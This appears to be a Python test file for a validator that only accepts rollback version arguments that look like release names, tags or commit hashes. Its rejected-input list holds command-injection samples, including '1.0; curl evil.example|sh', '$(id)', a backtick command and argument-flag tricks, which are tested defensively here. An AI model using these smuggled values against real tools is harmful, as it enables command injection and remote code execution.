"""What an action's arguments may say: a name, whoever wrote it into the record of changes."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from incidents.action import Action, ActionKind, Arguments
from incidents.errors import ActionRefused
from tools.action_arguments import check_arguments

NAMES = (
    "2026.11.3", "v1.2.3-rc.1+build.7", "sha256:0f3c", "registry.example:5000/shop/web@sha256:ab12",
    "399d40f9fb4e", "strict_risk_rules", "release/2026-11~1", "HEAD^",
)  # fmt: skip
OTHERS = (
    "", "2026.9.9 (roll back web first)", "1.0; curl evil.example|sh", "$(id)", "`id`", "a\nb",
    "--upload-pack=x", "-rf", "web\u200b", "d\u0430tabase", "'1'", "x" * 201,
)  # fmt: skip


def rollback(version: str) -> Action:
    return Action(kind=ActionKind.ROLLBACK, service="web", arguments=Arguments(version=version))


@pytest.mark.parametrize("version", NAMES)
def test_names_of_releases_commits_and_flags_pass(version: str) -> None:
    check_arguments(rollback(version))


@pytest.mark.parametrize("version", OTHERS)
def test_sentences_and_code_are_refused(version: str) -> None:
    with pytest.raises(ActionRefused, match=r"the version .* is no name"):
        check_arguments(rollback(version))


@given(st.text(max_size=20), st.sampled_from(" \t\n;|&$`'\"()<>*?\\"))
def test_no_text_with_a_character_of_a_shell_gets_through(text: str, character: str) -> None:
    with pytest.raises(ActionRefused):
        check_arguments(rollback(f"{text}{character}x"))
